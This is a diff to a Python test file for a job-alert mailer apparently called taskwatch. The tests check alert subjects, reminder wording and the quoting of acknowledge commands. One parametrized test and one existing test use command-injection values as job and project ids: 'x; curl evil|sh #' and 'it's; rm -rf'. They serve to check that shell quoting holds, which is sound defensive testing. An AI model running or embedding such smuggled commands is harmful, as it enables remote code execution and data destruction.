@@ -1,6 +1,7 @@
 """The built-in words of letters: every event named or counted, and nothing foreign that is more than text."""
 
 import json
+import shlex
 from collections import Counter
 from collections.abc import Sequence
 from html.parser import HTMLParser
@@ -119,16 +120,39 @@ def test_several_are_counted_in_the_subject_and_named_the_worst_first() -> None:
     places = [letter.text.index(f"    {job}, ") for job in ("c", "d", "a", "b")]
     assert places == sorted(places)
     assert letter.text.startswith("2 failed, 1 resolved, 1 started (project prod)\n")
-    assert (
-        "all of them:  taskwatch events --project prod --since 2026-11-23T10:00:00Z --limit 50" in letter.text
-    )
+    assert "you have them:    taskwatch ack c d\n" in letter.text
+    assert "taskwatch events --project prod --since 2026-11-23T10:00:00Z --limit 1000\n" in letter.text
     assert "more:" not in letter.text
+
+
+def test_what_is_over_by_now_alarms_nobody() -> None:
+    over, still = failed("a"), warned()
+    told = Contents(
+        events=worst_first([over.body, still.body], over={over.id}),
+        counts=Counter([str(over.type), str(still.type)]),
+        group=PROD,
+        at=T0,
+        over=frozenset({over.id}),
+    )
+    letter = letter_of(told)
+    assert letter.subject == "WARNING prod: 1 failed, 1 vanished"
+    assert "\nover by now: CreateGaussDBV5Instance of db-1 failed: disk broken\n" in letter.text
+    assert letter.text.index("vanished") < letter.text.index("over by now")
+    assert "taskwatch ack job-1\n" in letter.text, "only what is open"
+    assert "over by now: Create" in (letter.html or "")
+
+
+def test_all_of_them_are_listed_from_the_first_that_was_recorded_named_or_not() -> None:
+    told = contents([failed()], more=30_000)
+    earlier = Contents(events=told.events, counts=told.counts, group=PROD, at=T0, since=at(-5))
+    assert "--since 2026-11-23T09:55:00Z --limit 100000\n" in letter_of(earlier).text
 
 
 def test_those_beyond_the_list_are_counted_with_the_way_to_all() -> None:
     letter = letter_of(contents([failed(f"job-{number}") for number in range(LISTED)], more=7))
     assert "and 7 more: 7 failed\n" in letter.text
-    assert "--limit 57" in letter.text
+    assert "--limit 1000" in letter.text
+    assert "taskwatch ack" not in letter.text, "those that are not named would be forgotten"
     assert "and 7 more: 7 failed" in (letter.html or "")
 
 
@@ -161,8 +185,8 @@ def test_a_reminder_says_that_it_is_one_and_leads_to_the_open_alerts() -> None:
     assert one.subject == "CRITICAL prod: still open: CreateGaussDBV5Instance of db-1 failed"
     two = letter_of(contents([failed("a"), failed("b")], is_reminder=True))
     assert two.subject == "CRITICAL prod: 2 still open"
-    assert two.text.startswith("Nobody has acknowledged this yet, and nothing has ended it:\n")
-    assert "all of them:  taskwatch alerts --project prod\n" in two.text
+    assert two.text.startswith("This is still open, and nobody has it now:\n")
+    assert "all of them:      taskwatch alerts --project prod\n" in two.text
 
 
 def test_outages_losses_and_tests_are_told_too() -> None:
@@ -187,7 +211,7 @@ def test_outages_losses_and_tests_are_told_too() -> None:
 
     test = letter_of(contents_of(receiver_test_event("mail", at=T0, sample=True).body))
     assert "This is a test of the receiver mail by taskwatch. Nothing has happened." in test.subject
-    assert "taskwatch ack" not in test.text
+    assert "taskwatch" not in test.text.partition("seen")[2], "a test is on no record"
 
 
 def test_what_is_told_of_one_task_is_one_thread_and_of_several_that_of_the_group() -> None:
@@ -249,6 +273,17 @@ def test_a_project_of_any_name_stands_quoted_in_the_command() -> None:
     assert "taskwatch events --project 'it'\\''s; rm -rf' --since" in letter.text
 
 
+@pytest.mark.parametrize("job_id", ["x; curl evil|sh #", "a\nb", "\x1b[2J", "-rf", "ü", ""])
+def test_a_job_id_of_any_kind_is_one_word_of_the_command(job_id: str) -> None:
+    text = letter_of(contents([failed(job_id)])).text
+    (command,) = [line for line in text.split("\n") if line.startswith("you have it:")]
+    words = shlex.split(command.partition("taskwatch ack ")[2])
+    assert len(words) == 1
+    assert command.isprintable()
+    both = letter_of(contents([failed(job_id), failed("other")])).text
+    assert f"taskwatch ack {command.partition('taskwatch ack ')[2]} other\n" in both
+
+
 def test_ids_are_made_of_what_is_told() -> None:
     one, two = EventId("tw_1"), EventId("tw_2")
     assert message_id("mail", [one]) == one
@@ -257,14 +292,13 @@ def test_ids_are_made_of_what_is_told() -> None:
         message_id("mail", [one, two]),
         message_id("mail", [two, one]),
         message_id("chat", [one, two]),
-        reminder_id("mail", "group", [one, two], after=1),
-        reminder_id("mail", "group", [one, two], after=2),
-        reminder_id("mail", "other", [one, two], after=1),
-        reminder_id("chat", "group", [one, two], after=1),
-        reminder_id("mail", "group", [one], after=1),
+        reminder_id("mail", [one, two], after=1),
+        reminder_id("mail", [one, two], after=2),
+        reminder_id("chat", [one, two], after=1),
+        reminder_id("mail", [one], after=1),
         one,
     }
-    assert len(different) == 9
+    assert len(different) == 8
     assert all(id_.isascii() and id_.replace("_", "").isalnum() for id_ in different)
 
 
@@ -304,7 +338,7 @@ def test_one_event_in_html_is_a_table_and_the_commands() -> None:
 def test_several_events_in_html_are_two_lines_each() -> None:
     html = letter_of(contents([failed("a"), started("b")], more=2, is_reminder=True)).html or ""
     assert words(html) == [
-        "Nobody has acknowledged this yet, and nothing has ended it:",
+        "This is still open, and nobody has it now:",
         "3 failed, 1 started", "(project prod)",
         "CreateGaussDBV5Instance of db-1 failed: disk broken",
         "a, ended 2026-11-23 11:00:00 UTC, seen 2026-11-23 10:00:00 UTC",
